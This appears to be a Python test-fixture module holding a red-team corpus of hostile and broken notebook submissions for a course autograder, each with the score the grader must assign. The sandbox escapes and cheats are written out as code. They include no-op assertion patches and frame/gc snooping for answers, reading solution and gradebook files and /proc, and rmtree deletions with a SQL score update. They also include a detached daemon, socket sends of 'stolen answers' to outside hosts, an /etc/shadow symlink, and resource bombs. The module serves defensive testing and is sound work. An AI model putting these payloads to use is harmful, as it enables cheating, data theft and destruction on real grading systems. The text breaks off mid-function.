"""The red-team corpus: hostile, broken and accidental ps01 submissions, each with the grade it must get.

Used by ``tests/test_redteam.py``, which writes them all into one scratch course and
grades the batch with ``python -m course_tools grade``. A :class:`Case` writes one
student's ``submitted/<student>/ps01_counts/`` (most start from the released notebook,
as a student would) and states the outcome: the autograded score (85 is full marks; the
written answer, 15 points, is graded by hand), the points per function where they are
not all or nothing, and words that must appear in the grader's line for the student.

Rule of the corpus: a submission scores exactly what its real work earns. The cheats
below do no real work (their functions return placeholders), so they must score 0;
the accidents and the attacks on others come with correct answers, so they must keep
85 (or the points of the cells that ran before the accident).
"""

from __future__ import annotations

import json
import os
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

ASSIGNMENT = "ps01_counts"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
FUNCTIONS = ["one_hot", "tfidf", "ppmi", "cosine_similarity"]
POINTS = {"one_hot": 10, "tfidf": 25, "ppmi": 30, "cosine_similarity": 20}
FULL = 85
WRITTEN = "written_ppmi_smoothing"

# Placeholders: functions that exist but do no work (a cheat that only defines these earns nothing).
NO_WORK = {
    "one_hot": "def one_hot(ids, vocab_size):\n    return np.zeros((1, 1))\n",
    "tfidf": "def tfidf(counts, smooth_idf=True, normalize=True):\n    return sp.csr_matrix((1, 1))\n",
    "ppmi": "def ppmi(cooc, alpha=0.75):\n    return sp.csr_matrix((1, 1))\n",
    "cosine_similarity": "def cosine_similarity(a, b=None):\n    return np.zeros((1, 1))\n",
}


@dataclass
class Ctx:
    """What the submissions need to know about the scratch course they attack."""

    course: Path
    repo: Path
    answers: dict[str, str]  # grade_id -> the solution's answer source
    port: int  # a TCP listener the test runs on 127.0.0.1
    token: str  # marks this run's daemons and files
    site_packages: Path

    @property
    def sentinel(self) -> Path:
        """The file the vandal tries to create in the venv's site-packages."""
        return self.site_packages / f"redteam_{self.token}.pth"


@dataclass
class Case:
    student: str
    score: float
    build: Callable[[Ctx], None]
    note: tuple[str, ...] = ()
    functions: dict[str, float] | None = None
    what: str = ""
    bug: str | None = None  # a known grader bug: the test is xfail(strict) with this reason


CASES: list[Case] = []


def case(student: str, score: float, note: tuple[str, ...] | str = (), functions: dict | None = None,
         bug: str | None = None):
    def register(build):
        CASES.append(Case(student, score, build, (note,) if isinstance(note, str) else tuple(note), functions,
                          (build.__doc__ or "").strip().splitlines()[0], bug))
        return build
    return register


# --- helpers -------------------------------------------------------------------------------------


def release(ctx: Ctx):
    return nbformat.read(ctx.course / "exercises" / ASSIGNMENT / NOTEBOOK, as_version=4)


def answered(ctx: Ctx, **sources):
    """The release with the solution's answers typed in, then ``sources`` (grade_id -> source) over them."""
    nb = release(ctx)
    answers = dict(ctx.answers, **sources)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def blank_with(ctx: Ctx, **sources):
    """The release with only ``sources`` typed in (the other answers left as released)."""
    nb = release(ctx)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in sources:
            cell.source = sources[grade_id]
    return nb


def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def index(nb, grade_id) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def add_after(nb, grade_id, source: str) -> None:
    nb.cells.insert(index(nb, grade_id) + 1, nbformat.v4.new_code_cell(textwrap.dedent(source)))


def append(nb, source: str) -> None:
    nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(source)))


def folder(ctx: Ctx, student: str) -> Path:
    path = ctx.course / "submitted" / student / ASSIGNMENT
    path.mkdir(parents=True)
    return path


def submit(ctx: Ctx, student: str, nb, name: str = NOTEBOOK, version: int = 4) -> Path:
    path = folder(ctx, student) / name
    nbformat.write(nb, path, version=version)
    return path


def report_cell(ctx: Ctx, body: str) -> str:
    """Source of a cell that defines the course's paths for an attack (``COURSE``, ``REPO``...), then ``body``."""
    head = (f"COURSE = {str(ctx.course)!r}\nREPO = {str(ctx.repo)!r}\nSITE = {str(ctx.site_packages)!r}\n"
            f"TOKEN = {ctx.token!r}\nPORT = {ctx.port}\n")
    return head + textwrap.dedent(body)


# --- classmates ------------------------------------------------------------------------------------


@case("full_a", FULL, "15 points to grade by hand")
def full_a(ctx):
    """the solution's answers, as a student submits them"""
    nb = answered(ctx, **{WRITTEN: "Smoothing raises the probability of rare contexts, so their PMI shrinks."})
    submit(ctx, "full_a", nb)


@case("full_b", FULL)
def full_b(ctx):
    """a second full-marks classmate (a scratch cell of their own, kept and run)"""
    nb = answered(ctx)
    add_after(nb, "test_one_hot", "print(one_hot(np.array([1]), 3))")
    submit(ctx, "full_b", nb)


@case("empty", 0)
def empty(ctx):
    """the release submitted unchanged"""
    submit(ctx, "empty", release(ctx))


# --- points for nothing --------------------------------------------------------------------------


@case("noop_checks", 0)
def noop_checks(ctx):
    """numpy.isclose, np.allclose, assert_close and assert_own_code replaced by no-ops"""
    patch = textwrap.dedent("""\
        import numpy
        import numpy.testing
        import course_lib.testing
        numpy.isclose = lambda *args, **kwargs: numpy.ones(numpy.broadcast(*args[:2]).shape, bool)
        numpy.allclose = lambda *args, **kwargs: True
        numpy.array_equal = lambda *args, **kwargs: True
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        course_lib.testing.assert_close = assert_close = lambda *args, **kwargs: None
        course_lib.testing.assert_own_code = assert_own_code = lambda *args, **kwargs: None
        """)
    nb = blank_with(ctx, one_hot=patch + NO_WORK["one_hot"], tfidf=NO_WORK["tfidf"], ppmi=NO_WORK["ppmi"],
                    cosine_similarity=NO_WORK["cosine_similarity"])
    submit(ctx, "noop_checks", nb)


@case("post_run_hook", 0)
def post_run_hook(ctx):
    """an IPython post_run_cell hook that clears every cell's error"""
    hook = textwrap.dedent("""\
        def _forgive(result):
            result.error_in_exec = None
            result.error_before_exec = None
        get_ipython().events.register("post_run_cell", _forgive)
        """)
    nb = release(ctx)
    cell(nb, "one_hot").source = hook + cell(nb, "one_hot").source
    submit(ctx, "post_run_hook", nb)


@case("swallow_errors", 0)
def swallow_errors(ctx):
    """every exception caught by sys.excepthook and IPython's set_custom_exc"""
    swallow = textwrap.dedent("""\
        import sys
        sys.excepthook = lambda *args: None
        def _swallow(shell, etype, value, tb, tb_offset=None):
            return None
        get_ipython().set_custom_exc((BaseException,), _swallow)
        """)
    nb = release(ctx)
    cell(nb, "one_hot").source = swallow + cell(nb, "one_hot").source
    submit(ctx, "swallow_errors", nb)


@case("always_equal", 0)
def always_equal(ctx):
    """objects that equal anything: a class whose __eq__ is always True, ndarray and csr_matrix subclasses"""
    liars = textwrap.dedent("""\
        class Anything:
            shape = property(lambda self: self)
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __getattr__(self, name): return self
            def __call__(self, *args, **kwargs): return self
            def __bool__(self): return True
            __hash__ = object.__hash__

        class LiarArray(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), bool)
            def __ne__(self, other): return np.zeros(np.shape(other), bool)

        class LiarSparse(sp.csr_matrix):
            __module__ = "scipy.sparse._csr"  # passes for scipy's own class at a glance
            def __eq__(self, other): return True
            def __ne__(self, other): return False

        def one_hot(ids, vocab_size):
            return Anything()
        """)
    nb = blank_with(ctx, one_hot=liars,
                    tfidf="def tfidf(counts, smooth_idf=True, normalize=True):\n"
                          "    return np.zeros(np.shape(counts)).view(LiarArray)\n",
                    ppmi="def ppmi(cooc, alpha=0.75):\n    return LiarSparse(np.shape(cooc))\n",
                    cosine_similarity="def cosine_similarity(a, b=None):\n"
                                      "    return np.zeros((len(a), len(a if b is None else b))).view(LiarArray)\n")
    submit(ctx, "always_equal", nb)


@case("frame_reader", 0)
def frame_reader(ctx):
    """the expected values looked for in the checking function's frames (inspect.stack) and in memory (gc)"""
    thief = textwrap.dedent("""\
        import gc
        import inspect
        FOUND = []

        def _steal():
            for info in inspect.stack()[1:]:
                for name, value in info.frame.f_locals.items():
                    if name in ("expected", "want", "reference", "answer", "target"):
                        FOUND.append(name)
                        return value
                    if isinstance(value, dict) and "expected" in value:
                        FOUND.append(name)
                        return value["expected"]
            for value in gc.get_objects():
                if isinstance(value, dict) and "expected" in value and "args" in value:
                    FOUND.append("gc")
                    return value["expected"]
            return None

        def one_hot(ids, vocab_size):
            return _steal()
        """)
    steal = "    return _steal()\n"
    nb = blank_with(ctx, one_hot=thief,
                    tfidf="def tfidf(counts, smooth_idf=True, normalize=True):\n" + steal,
                    ppmi="def ppmi(cooc, alpha=0.75):\n" + steal,
                    cosine_similarity="def cosine_similarity(a, b=None):\n" + steal)
    append(nb, "print('expected values found in frames or memory:', sorted(set(FOUND)) or 'none')")
    submit(ctx, "frame_reader", nb)


@case("reads_cases", 0)
def reads_cases(ctx):
    """the grader's case files read from /grading/in/cases/*.pkl (inputs only)"""
    reader = textwrap.dedent("""\
        import glob
        import pickle
        CASES = []
        for path in sorted(glob.glob("/grading/in/cases/*.pkl")):
            with open(path, "rb") as f:
                CASES += pickle.load(f)
        print("case files read:", len(glob.glob("/grading/in/cases/*.pkl")), "cases:", len(CASES))
        print("keys in the cases:", sorted({k for c in CASES for k in c}))
        print("expected values in the cases:", any("expected" in c for c in CASES))

        def _lookup(*args):
            for c in CASES:
                if "expected" in c:
                    return c["expected"]
            return np.zeros((0, 0))

        def one_hot(ids, vocab_size):
            return _lookup(ids)
        """)
    nb = blank_with(ctx, one_hot=reader,
                    tfidf="def tfidf(counts, smooth_idf=True, normalize=True):\n    return _lookup(counts)\n",
                    ppmi="def ppmi(cooc, alpha=0.75):\n    return _lookup(cooc)\n",
                    cosine_similarity="def cosine_similarity(a, b=None):\n    return _lookup(a)\n")
    submit(ctx, "reads_cases", nb)


@case("reads_secrets", 0)
def reads_secrets(ctx):
    """the solution notebook, gradebook, answer key and reference course_lib read by absolute paths"""
    body = """\
        import os
        import sys
        TARGETS = {
            "course solution": f"{COURSE}/solutions/ps01_counts/ps01_counts.ipynb",
            "course gradebook": f"{COURSE}/gradebook.db",
            "course answer key": f"{COURSE}/answer_keys/ps01_counts.key",
            "classmate's notebook": f"{COURSE}/submitted/full_a/ps01_counts/ps01_counts.ipynb",
            "reference counts.py": f"{REPO}/course_lib/vectors/counts.py",
            "course's copy of counts.py": f"{COURSE}/course_lib/vectors/counts.py",
            "repository solution": f"{REPO}/solutions/ps01_counts/ps01_counts.ipynb",
            "repository answer key": f"{REPO}/answer_keys/ps01_counts.key",
            "relative answer key": "../../../../answer_keys/ps01_counts.key",
        }
        SOLUTION = {}
        for label, path in TARGETS.items():
            try:
                with open(path, "rb") as f:
                    data = f.read()
            except OSError as error:
                print(f"{label}: not readable ({type(error).__name__})")
                continue
            print(f"{label}: READABLE ({len(data)} bytes)")
            if label.endswith("counts.py"):
                exec(compile(data, path, "exec"), SOLUTION)
            if label.endswith("solution"):
                import json
                for c in json.loads(data)["cells"]:
                    if c.get("metadata", {}).get("nbgrader", {}).get("solution") and c["cell_type"] == "code":
                        exec("".join(c["source"]), SOLUTION)
        # the reference through the editable install of course_lib, with the student edition out of the way
        saved_path, saved_modules = list(sys.path), {m: sys.modules.pop(m) for m in list(sys.modules)
                                                     if m.split(".")[0] == "course_lib"}
        sys.path[:] = [p for p in sys.path if not p.startswith("/grading")]
        try:
            import course_lib.vectors.counts as reference
            try:
                reference.one_hot(np.array([0]), 1)
                SOLUTION["one_hot"] = reference.one_hot
                print("reference module: READABLE (answers)", reference.__file__)
            except NotImplementedError:
                print("reference module: not readable (stubs only)", reference.__file__)
        except Exception as error:
            print(f"reference module: not readable ({type(error).__name__})")
        finally:
            sys.path[:] = saved_path
            sys.modules.update(saved_modules)
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
        commands = []
        for p in pids:
            try:
                commands.append(open(f"/proc/{p}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
            except OSError:
                pass
        print("grader visible:", any("nbgrader" in c or "course_tools" in c for c in commands))
        print("environment leaks:", sorted(k for k, v in os.environ.items() if COURSE in v or "NBGRADER" in k))

        def one_hot(ids, vocab_size):
            return SOLUTION["one_hot"](ids, vocab_size) if "one_hot" in SOLUTION else None
        """
    nb = blank_with(ctx, one_hot=report_cell(ctx, body))
    for name in FUNCTIONS[1:]:
        signature = NO_WORK[name].splitlines()[0]
        args = signature[signature.index("(") + 1:signature.index(")")]
        call = ", ".join(a.split("=")[0].strip() for a in args.split(","))
        cell(nb, name).source = (f"{signature}\n    if {name!r} in SOLUTION:\n        return SOLUTION[{name!r}]({call})\n"
                                 f"    return None\n")
    submit(ctx, "reads_secrets", nb)


# --- harm to others -------------------------------------------------------------------------------


@case("vandal", FULL)
def vandal(ctx):
    """correct answers, then writes and deletes across the course (and its copy of course_lib) and the venv

    Only the scratch course is a target of deletion, never the repository: were the sandbox
    ever to fail open, this submission must not destroy the working tree running the test.
    """
    body = """\
        import os
        import shutil
        import sqlite3
        import sys

        def sql():
            con = sqlite3.connect(f"{COURSE}/gradebook.db")
            con.execute("update grade set manual_score = 100")
            con.commit()

        ATTEMPTS = {
            "append to gradebook.db": lambda: open(f"{COURSE}/gradebook.db", "ab").write(b"x"),
            "sql update of gradebook.db": sql,
            "overwrite a classmate's notebook":
                lambda: open(f"{COURSE}/submitted/full_a/ps01_counts/ps01_counts.ipynb", "w").write("{}"),
            "add a notebook to a classmate's folder":
                lambda: open(f"{COURSE}/submitted/full_b/ps01_counts/extra.ipynb", "w").write("{}"),
            "overwrite a classmate's staged notebook":
                lambda: open(f"{COURSE}/_grading/ps01_counts/staged/full_b/ps01_counts/ps01_counts.ipynb", "w").write("{}"),
            "delete submitted/": lambda: shutil.rmtree(f"{COURSE}/submitted"),
            "delete solutions/": lambda: shutil.rmtree(f"{COURSE}/solutions"),
            "delete exercises/": lambda: shutil.rmtree(f"{COURSE}/exercises"),
            "delete answer_keys/": lambda: shutil.rmtree(f"{COURSE}/answer_keys"),
            "edit nbgrader_config.py": lambda: open(f"{COURSE}/nbgrader_config.py", "a").write("\\n"),
            "delete course_lib/": lambda: shutil.rmtree(f"{COURSE}/course_lib"),
            "write into site-packages": lambda: open(f"{SITE}/redteam_{TOKEN}.pth", "w").write("# red team\\n"),
            "edit the venv's python": lambda: open(sys.executable, "ab").write(b""),
            "edit the student edition": lambda: open("/grading/edition/course_lib/__init__.py", "a").write("#"),
            "edit the probe": lambda: open("/grading/in/probe.py", "a").write("#"),
        }
        for label, attempt in ATTEMPTS.items():
            try:
                attempt()
                print(f"{label}: DONE")
            except Exception as error:
                print(f"{label}: failed ({type(error).__name__})")
        """
    nb = answered(ctx)
    append(nb, report_cell(ctx, body))
    submit(ctx, "vandal", nb)


@case("daemon", FULL)
def daemon(ctx):
    """correct answers, and a daemon (double fork, setsid, SIGTERM ignored) that should outlive grading"""
    body = """\
        import subprocess
        import sys
        code = (
            "import os, signal, sys, time\\n"
            "if os.fork(): os._exit(0)\\n"
            "os.setsid()\\n"
            "if os.fork(): os._exit(0)\\n"
            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
            "signal.signal(signal.SIGHUP, signal.SIG_IGN)\\n"
            "os.execv(sys.executable, [sys.executable, '-c', 'import time\\\\nwhile True: time.sleep(1)', "
            f"'redteam-daemon-{TOKEN}'])\\n"
        )
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True).wait()
        print("daemon started")
        """
    nb = answered(ctx)
    add_after(nb, "hidden_one_hot", report_cell(ctx, body))
    submit(ctx, "daemon", nb)


@case("network", FULL)
def network(ctx):
    """correct answers, and connections to the test's TCP listener on 127.0.0.1 and to the internet"""
    body = """\
        import socket
        for label, address in {"the test's listener": ("127.0.0.1", PORT), "pypi.org": ("pypi.org", 443),
                               "1.1.1.1": ("1.1.1.1", 53)}.items():
            try:
                with socket.create_connection(address, timeout=3) as s:
                    s.sendall(b"stolen answers")
                print(f"{label}: CONNECTED")
            except OSError as error:
                print(f"{label}: failed ({type(error).__name__})")
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen answers", ("127.0.0.1", PORT))
            print("udp: sent (to the sandbox's own loopback)")
        except OSError as error:
            print(f"udp: failed ({type(error).__name__})")
        """
    nb = answered(ctx)
    append(nb, report_cell(ctx, body))
    submit(ctx, "network", nb)


# --- accidents that must not break the batch ------------------------------------------------------


@case("dup_test_cell", FULL)
def dup_test_cell(ctx):
    """test cells duplicated (copy-paste, same metadata)"""
    nb = answered(ctx)
    for grade_id in ("test_one_hot", "hidden_tfidf"):
        copy = nbformat.from_dict(json.loads(json.dumps(cell(nb, grade_id))))
        copy.id = f"{copy.id}-copy"  # the duplicate's own id, as Jupyter gives a pasted cell
        nb.cells.insert(index(nb, grade_id) + 1, copy)
    submit(ctx, "dup_test_cell", nb)


@case("graded_cell_500", FULL)
def graded_cell_500(ctx):
    """an added graded test cell worth 500 points"""
    nb = answered(ctx)
    bonus = nbformat.v4.new_code_cell("print('bonus points, please')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 500,
                                  "schema_version": 3, "solution": False}
    nb.cells.insert(index(nb, "hidden_cosine_similarity") + 1, bonus)
    submit(ctx, "graded_cell_500", nb)


@case("exit_in_answers", FULL, "exit()")
def exit_in_answers(ctx):
    """exit() at the end of an answer cell (in an ``if``: graded runs keep definitions, assignments and
    ``if`` blocks of a cell, not bare calls), sys.exit() at the end of another"""
    nb = answered(ctx, ppmi=ctx.answers["ppmi"] + "\n\nif True:\n    exit()\n",
                  cosine_similarity=ctx.answers["cosine_similarity"] + "\n\nimport sys\nsys.exit(0)\n")
    submit(ctx, "exit_in_answers", nb)


@case("no_metadata", FULL, ("metadata", "15 points to grade by hand"))
def no_metadata(ctx):
    """a correct notebook re-created in a new notebook: no nbgrader metadata, no kernel spec"""
    source = answered(ctx, **{WRITTEN: "With alpha < 1 rare contexts get more probability mass."})
    nb = nbformat.v4.new_notebook()
    for c in source.cells:
        nb.cells.append(nbformat.v4.new_code_cell(c.source) if c.cell_type == "code"
                        else nbformat.v4.new_markdown_cell(c.source))
    submit(ctx, "no_metadata", nb)


@case("deleted_test_cells", FULL)
def deleted_test_cells(ctx):
    """the visible test of one_hot and the hidden-test cell of ppmi deleted"""
    nb = answered(ctx)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_one_hot", "hidden_ppmi")]
    submit(ctx, "deleted_test_cells", nb)


@case("reordered", FULL)
def reordered(ctx):
    """cells re-ordered: the answers moved to the end, in reverse order"""
    nb = answered(ctx)
    answers = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"]
    nb.cells = [c for c in nb.cells if c not in answers] + answers[::-1]
    submit(ctx, "reordered", nb)


@case("metadata_edited", FULL)
def metadata_edited(ctx):
    """nbgrader metadata edited: points inflated, test cells unlocked and emptied, an answer made a graded cell"""
    nb = answered(ctx)
    for c in nb.cells:
        meta = c.metadata.get("nbgrader")
        if meta and meta.get("grade"):
            meta["points"] = 500
            meta["locked"] = False
            meta["checksum"] = "0" * 32
    cell(nb, "test_ppmi").source = "pass  # passes, surely"
    cell(nb, "one_hot").metadata["nbgrader"].update(grade=True, points=100)
    submit(ctx, "metadata_edited", nb)


@case("swapped_ids", FULL)
def swapped_ids(ctx):
    """the grade_ids of the one_hot and tfidf answer cells swapped (metadata copied with a cell)"""
    nb = answered(ctx)
    a, b = cell(nb, "one_hot"), cell(nb, "tfidf")
    a.metadata["nbgrader"]["grade_id"], b.metadata["nbgrader"]["grade_id"] = "tfidf", "one_hot"
    submit(ctx, "swapped_ids", nb)


@case("kernelspec", FULL)
def kernelspec(ctx):
    """the kernel spec changed to R"""
    nb = answered(ctx)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R"}
    submit(ctx, "kernelspec", nb)


@case("nbformat3", FULL)
def nbformat3(ctx):
    """the notebook saved as nbformat 3"""
    submit(ctx, "nbformat3", answered(ctx), version=3)


@case("logging_warning", FULL)
def logging_warning(ctx):
    """logging.warning, warnings.warn and prints to stderr in the answers"""
    one_hot = "import logging\nlogging.warning('one_hot: check the shapes')\n" + ctx.answers["one_hot"]
    tfidf = ctx.answers["tfidf"].replace('"""\n', '"""\n    import sys, warnings\n    warnings.warn("slow path")\n'
                                         '    print("debug", file=sys.stderr)\n', 1)
    assert tfidf != ctx.answers["tfidf"]
    submit(ctx, "logging_warning", answered(ctx, one_hot=one_hot, tfidf=tfidf))


@case("print_100mb", FULL)
def print_100mb(ctx):
    """100 MB printed by an answer cell"""
    submit(ctx, "print_100mb", answered(ctx, one_hot=ctx.answers["one_hot"] + "\nprint('x' * 100_000_000)\n"))


@case("huge_exception", FULL, "RuntimeError")
def huge_exception(ctx):
    """an exception whose message is 50 MB, raised by an added cell"""
    nb = answered(ctx)
    append(nb, "raise RuntimeError('E' * 50_000_000)")
    submit(ctx, "huge_exception", nb)


@case("big_images", FULL)
def big_images(ctx):
    """twenty 1.5 MB images displayed by one added cell (a plotting loop at high resolution)"""
    nb = answered(ctx)
    append(nb, "from IPython.display import display\n"
               "for i in range(20):\n"
               "    display({'image/png': 'iVBORw0KGgo' + 'A' * 1_500_000, 'text/plain': f'<Figure {i}>'}, raw=True)")
    submit(ctx, "big_images", nb)


@case("surrogate_output", FULL)
def surrogate_output(ctx):
    """an answer cell that prints and displays lone surrogates (text that cannot be saved as UTF-8)"""
    submit(ctx, "surrogate_output", answered(ctx, one_hot=ctx.answers["one_hot"] +
                                             "\nprint('\\ud800 \\udcff')\n"
                                             "from IPython.display import display\n"
                                             "display({'text/plain': '\\ud83d'}, raw=True)\n"))


# Named to be graded among the first (a batch takes its students in name order): its half minute of sleep then
# overlaps the other submissions on the other worker instead of ending the batch alone.
@case("asleep", FULL, "stopped after")
def asleep(ctx):
    """four added cells that sleep, at the end (each outlives the cell timeout; together the notebook's)"""
    nb = answered(ctx)
    for _ in range(4):
        append(nb, "import time\ntime.sleep(1000)")
    submit(ctx, "asleep", nb)


@case("infinite_loop", FULL, "stopped after")
def infinite_loop(ctx):
    """an infinite loop at the end of an answer cell (after a correct definition)"""
    submit(ctx, "infinite_loop", answered(ctx, cosine_similarity=ctx.answers["cosine_similarity"] +
                                          "\nwhile True:\n    pass\n"))


# the feedback run notes the MemoryError, or, once in a loaded run, the end of its process (seen once, not reproduced)
@case("memory_bomb", FULL, "MemoryError|kernel died")
def memory_bomb(ctx):
    """50 GB allocated at the end of two answer cells (after correct definitions)"""
    submit(ctx, "memory_bomb", answered(ctx, ppmi=ctx.answers["ppmi"] + "\nhog = bytearray(50 * 2 ** 30)\n",
                                        tfidf=ctx.answers["tfidf"] + "\nhog = np.ones(50 * 2 ** 30 // 8)\n"))


@case("os_exit_late", FULL, "kernel died")
def os_exit_late(ctx):
    """os._exit(1) in a cell added after the ppmi tests: every test still gets its points, since each graded
    cell runs in a process of its own with the answers' definitions only; the feedback run notes the exit"""
    nb = answered(ctx)
    add_after(nb, "hidden_ppmi", "import os\nos._exit(1)")
    submit(ctx, "os_exit_late", nb)


@case("output_traps", FULL)
def output_traps(ctx):
    """traps where the grader once read probe output: a named pipe, a link to /dev/zero, JSON nested 100,000 deep
    and a 100 MB sparse file, under every name a probe or the run's notebook could have, made by graded and
    feedback runs alike; the grader reads no file the sandbox wrote without checking it, so nothing blocks"""
    trap = textwrap.dedent("""\
        import os

        def _traps():
            for folder in ("/grading/out", "/grading/work"):
                for name in ("test_one_hot.json", "hidden_one_hot.json", "test_tfidf.json", "notebook.ipynb",
                             "deep.json", "big.json"):
                    path = os.path.join(folder, name)
                    try:
                        if os.path.lexists(path):
                            os.remove(path)
                        if name.startswith("test_one"):
                            os.mkfifo(path)
                        elif name.startswith("hidden"):
                            os.symlink("/dev/zero", path)
                        elif name == "deep.json":
                            with open(path, "w") as f:
                                f.write("[" * 100_000 + "]" * 100_000)
                        else:
                            with open(path, "wb") as f:
                                f.truncate(100 * 2 ** 20)  # past what the grader reads, within the file size limit
                    except OSError:
                        pass
        _made = _traps()  # an assignment: graded runs make the traps too
        """)
    submit(ctx, "output_traps", answered(ctx, one_hot=trap + "\n" + ctx.answers["one_hot"]))


@case("memory_hoard", FULL, "memory limit")
def memory_hoard(ctx):
    """memory held where no address-space limit sees it (/tmp and /dev/shm, tmpfs; 5 GiB of memfds of 190 MiB each) by a cell
    of one's own: the sandbox's memory limit counts them all, so the classmates graded beside it keep their
    memory; the graded cells, which run before, keep their points"""
    nb = answered(ctx)
    append(nb, textwrap.dedent("""\
        import os
        held = []
        for folder in ("/tmp", "/dev/shm"):
            try:
                with open(os.path.join(folder, "hoard"), "wb") as f:
                    for _ in range(800):
                        f.write(b"x" * 2 ** 20)
            except OSError as error:
                print(folder, "full:", error)
        for _ in range(27):  # each below the file size limit (200 MB), 5 GiB in all
            fd = os.memfd_create("hoard")
            for _ in range(190):
                os.write(fd, b"x" * 2 ** 20)
            held.append(fd)
        print("held", len(held) * 190, "MiB of memfds")
        """))
    submit(ctx, "memory_hoard", nb)


@case("kill_kernel", FULL, "kernel died")
def kill_kernel(ctx):
    """the kernel kills itself (SIGKILL) in the last cell"""
    nb = answered(ctx)
    append(nb, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
    submit(ctx, "kill_kernel", nb)


@case("input_call", FULL, "input")
def input_call(ctx):
    """input() at the end of an answer cell"""
    submit(ctx, "input_call", answered(ctx, one_hot=ctx.answers["one_hot"] + "\nname = input('Your name: ')\n"))


@case("written_as_code", FULL, "15 points to grade by hand")
def written_as_code(ctx):
    """the written answer's cell turned into a code cell (metadata kept)"""
    nb = answered(ctx, **{WRITTEN: "Rare contexts get a larger P_alpha(c), which lowers their PMI."})
    written = cell(nb, WRITTEN)
    written.cell_type, written.outputs, written.execution_count = "code", [], None
    submit(ctx, "written_as_code", nb)


@case("dup_answer_cell", FULL)
def dup_answer_cell(ctx):
    """the one_hot answer cell duplicated: the stub first, the real answer in the copy below"""
    nb = release(ctx)
    copy = nbformat.from_dict(json.loads(json.dumps(cell(nb, "one_hot"))))
    copy.source, copy.id = ctx.answers["one_hot"], f"{copy.id}-copy"
    nb.cells.insert(index(nb, "one_hot") + 1, copy)
    for grade_id in FUNCTIONS[1:]:
        cell(nb, grade_id).source = ctx.answers[grade_id]
    submit(ctx, "dup_answer_cell", nb)


@case("mangled_metadata", FULL, "metadata")
def mangled_metadata(ctx):
    """nbgrader metadata of the wrong types: a list, a string, a grade_id that is a list"""
    nb = answered(ctx)
    at = {grade_id: index(nb, grade_id) for grade_id in ("one_hot", "test_one_hot", "hidden_tfidf")}
    raw = json.loads(nbformat.writes(nb))
    raw["cells"][at["one_hot"]]["metadata"]["nbgrader"]["grade_id"] = ["one_hot"]
    raw["cells"][at["test_one_hot"]]["metadata"]["nbgrader"] = ["locked"]
    raw["cells"][at["test_one_hot"]]["source"] = "print('my own test')"
    raw["cells"][at["hidden_tfidf"]]["metadata"]["nbgrader"]["grade_id"] = {"id": "hidden_tfidf"}
    raw["cells"][0]["metadata"]["nbgrader"] = "nothing"
    (folder(ctx, "mangled_metadata") / NOTEBOOK).write_text(json.dumps(raw), encoding="utf-8")


@case("lone_surrogate", FULL)
def lone_surrogate(ctx):
    """an answer with a lone UTF-16 surrogate (\\ud800, valid JSON, not encodable as UTF-8)"""
    nb = json.loads(nbformat.writes(answered(ctx, one_hot=ctx.answers["one_hot"] + "\n# \ud800 pasted from a PDF\n")))
    path = folder(ctx, "lone_surrogate") / NOTEBOOK
    path.write_text(json.dumps(nb, ensure_ascii=True), encoding="ascii")


@case("bad_timestamp", FULL, "timestamp")
def bad_timestamp(ctx):
    """a correct notebook with a timestamp.txt that is not a date"""
    path = submit(ctx, "bad_timestamp", answered(ctx))
    (path.parent / "timestamp.txt").write_text("handed in last tuesday, promise\n")


@case("timestamp_link", FULL)
def timestamp_link(ctx):
    """a correct notebook with timestamp.txt a symbolic link to /etc/shadow"""
    path = submit(ctx, "timestamp_link", answered(ctx))
    os.symlink("/etc/shadow", path.parent / "timestamp.txt")


@case("forged_run_output", FULL)
def forged_run_output(ctx):
    """correct answers; the last cell forges the runner's output notebook (huge outputs, notes) and kills the runner"""
    body = """\
        import json, os, signal
        with open("/grading/out/notebook.ipynb", encoding="utf-8") as f:
            ran = json.load(f)
        for c in ran["cells"]:
            if c["cell_type"] == "code":
                c["outputs"] = [{"output_type": "display_data", "metadata": {},
                                 "data": {"image/png": "A" * 10_000_000, "text/plain": "z" * 1_000_000}}]
        ran["metadata"]["grading_run"] = {"ran": 1, "stopped": {"cell": 1, "why": "w" * 1_000_000},
                                          "timeouts": list(range(1, 20)) * 2000}
        with open("/grading/out/notebook.ipynb", "w", encoding="utf-8") as f:
            json.dump(ran, f)
        os.kill(os.getppid(), signal.SIGKILL)
        """
    nb = answered(ctx)
    append(nb, report_cell(ctx, body))
    submit(ctx, "forged_run_output", nb)


# --- broken files ---------------------------------------------------------------------------------


@case("wrong_name", FULL, "graded")
def wrong_name(ctx):
    """the only notebook, under another name"""
    submit(ctx, "wrong_name", answered(ctx), name="ps01_counts (1).ipynb")


@case("two_notebooks", FULL, "ignored")
def two_notebooks(ctx):
    """the right notebook and a blank copy (and a checkpoint folder)"""
    path = submit(ctx, "two_notebooks", answered(ctx))
    nbformat.write(release(ctx), path.parent / "ps01_counts-Copy1.ipynb")
    (path.parent / ".ipynb_checkpoints").mkdir()
    nbformat.write(release(ctx), path.parent / ".ipynb_checkpoints" / "ps01_counts-checkpoint.ipynb")


def _raw(student: str, data: bytes, what: str):
    def build(ctx):
